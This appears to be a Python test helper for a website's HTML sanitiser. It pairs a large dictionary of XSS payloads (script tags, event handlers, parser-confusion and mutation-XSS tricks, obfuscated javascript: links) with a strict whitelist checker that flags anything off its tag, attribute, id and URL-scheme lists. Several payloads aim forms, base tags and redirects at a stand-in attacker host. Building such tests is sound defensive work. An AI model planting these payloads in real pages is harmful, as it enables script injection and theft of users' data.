"""Markup that an attacker writes, and a judge of markup that shares no parser with the service.

The judge knows one grammar only: tags in small letters with quoted attributes, all of them on a
list. Whatever is not written so is hostile: no browser can read one of these in another way.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator

# Browsers read these as markup, or as addresses that run; each has been in somebody's report.
HOSTILE: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt/x>alert(1)</sCrIpT >",
    "event": "<img src=x onerror=alert(1)>",
    "event after a slash": "<b/onmouseover=alert(1)>words</b>",
    "event on what is allowed": '<p onclick="alert(1)" style="position:fixed">words</p>',
    "comment that ends at once": "<!--><img src=x onerror=alert(1)>-->",
    "comment that ends with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment": "<!-- <img src=x onerror=alert(1)> -->",
    "comment in a comment": "<!--<!---><img src=x onerror=alert(1)>-->",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "CDATA that ends at once": "<![CDATA[>]]><img src=x onerror=alert(1)>",
    "CDATA in a drawing": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "instruction": "<?php ?><img src=x onerror=alert(1)>",
    "instruction that ends at once": '<?xml ><script>alert(1)</script> version="1.0"?>',
    "declaration": "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "end tag with attributes": "</p onmouseover=alert(1)><//x>",
    "form": '</div></form><form action="https://evil.example/"><input name=q>',
    "form left open": '<form action="https://evil.example/" method=post id=f>',
    "button for a form": '<button form=f formaction="https://evil.example/">Complete</button>',
    "input": "<input type=image src=x formaction=javascript:alert(1)>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
    "stylesheet": '<link rel=stylesheet href="//evil.example/x.css"><style>*{color:red}</style>',
    "textarea left open": "<textarea><a href='",
    "title": "<title></title><img src=x onerror=alert(1)>",
    "plaintext": "<plaintext><p>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "drawing": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "link in a drawing": "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "mutation by MathML": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation by a table": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation by noembed": "<noembed><noembed/><p title='</noembed><img src=x onerror=alert(1)>'>",
    "mutation by a namespace": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by select": "<select><template><style><!--</style><a rel='--></style></template>"
    "</select><img id=x src onerror=alert(1)>'>",
    "javascript": '<a href="javascript:alert(1)">words</a>',
    "javascript in both cases": "<a href=JaVaScRiPt:alert(1)>words</a>",
    "javascript with a tab": '<a href="java\tscript:alert(1)">words</a>',
    "javascript with a line": '<a href="java&#10;script:alert(1)">words</a>',
    "javascript after a control": '<a href="&#1;javascript:alert(1)">words</a>',
    "javascript in entities": '<a href="&#x6A;avascript&colon;alert(1)">words</a>',
    "javascript in numbers": '<a href="&#0000106avascript:alert(1)">words</a>',
    "javascript after a soft hyphen": '<a href="\u00adjavascript:alert(1)">words</a>',
    "javascript after NUL": '<a href="\\u0000javascript:alert(1)">words</a>',
    "vbscript": "<a href='vbscript:msgbox(1)'>words</a>",
    "data": '<a href="data:text/html;base64,PHNjcmlwdD4=">words</a>',
    "blob": '<a href="blob:https://evil.example/1">words</a>',
    "a view of the source": '<a href="view-source:javascript:alert(1)">words</a>',
    "link with an event": '<a href="/x" onclick="alert(1)" target=_blank ping=//evil>words</a>',
    "link in a link": '<a linktype="page" id="1 onclick=alert(1)">words</a>',
    "unknown link": '<a linktype="script" id="1" href="javascript:alert(1)">words</a>',
    "embed": '<embed embedtype="media" url="https://evil.example/"/>',
    "picture of Wagtail": '<embed embedtype="image" id="1" format="left" alt="x"/>',
    "a name that shadows": '<a id="practice-files" name="csrfmiddlewaretoken">x</a>',
    "attribute left open": '<a href="/x',
    "attributes told twice": "<a href=/x href=javascript:alert(1) HREF=javascript:alert(2)>w</a>",
    "link inside an address": '<a href="/<a linktype=&quot;page&quot; id=&quot;1&quot;>">w</a>',
    "glossary word inside an address": '<a href="/x>median onmouseover=alert(1) y">words</a>',
    "greater than in a value": '<p data-block-key="a>b<script>alert(1)</script>">w</p>',
}
# The same as bare addresses, for places that take one.
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
    "\u00adjavascript:alert(1)", "view-source:x", "blob:x", 'x" onclick="alert(1)',
)  # fmt: skip

TAG = re.compile(r'<(/?)([a-z][a-z0-9]*)((?: [a-z][a-z-]*(?:="[^"<>]*")?)*)/?>')
ATTRIBUTE = re.compile(r' ([a-z][a-z-]*)(?:="([^"<>]*)")?')
OURS = {
    "a", "audio", "b", "br", "button", "caption", "code", "dd", "details", "dfn", "div", "dl", "dt",
    "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "i", "img", "li", "ol", "p",
    "pre", "section", "source", "span", "strong", "summary", "table", "tbody", "td", "th", "thead",
    "tr", "track", "ul", "video",
}  # fmt: skip
# A script of ours keeps its data in one, and a task its form in the other.
INERT = re.compile(
    r'<script type="application/json" data-practice-data>[^<]*</script>'
    r"|<template data-practice-editor>.*?</template>",
    re.DOTALL,
)
ATTRIBUTES = {
    "alt", "class", "controls", "data-block-key", "decoding", "download", "height", "hidden",
    "href", "id", "kind", "label", "lang", "linktype", "loading", "playsinline", "preload", "rel",
    "role", "scope", "src", "srclang", "tabindex", "type", "width",
}  # fmt: skip
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*(?=:)")


def hostile_in(markup: str) -> list[str]:
    """Return what in ``markup`` is not written as our own pages are."""
    markup = INERT.sub("", markup)
    return [*_tags(markup), *(["<"] if "<" in TAG.sub("", markup) else [])]


def _tags(markup: str) -> Iterator[str]:
    for found in TAG.finditer(markup):
        _ends, name, attributes = found.groups()
        if name not in OURS:
            yield found[0]
        for key, value in ATTRIBUTE.findall(attributes):
            if key not in ATTRIBUTES and not key.startswith(("aria-", "data-")):
                yield found[0]
            read = re.sub(r"[\x00-\x20\u00ad]", "", html.unescape(value)).lower()
            scheme = SCHEME.match(read)
            if key in ("href", "src") and scheme and scheme[0] not in (
                "http", "https", "mailto", "tel",
            ):  # fmt: skip
                yield found[0]
            if key == "id" and not re.fullmatch(r"(practice|words?)-[\w-]+|\d+|a\d+", value):
                yield found[0]
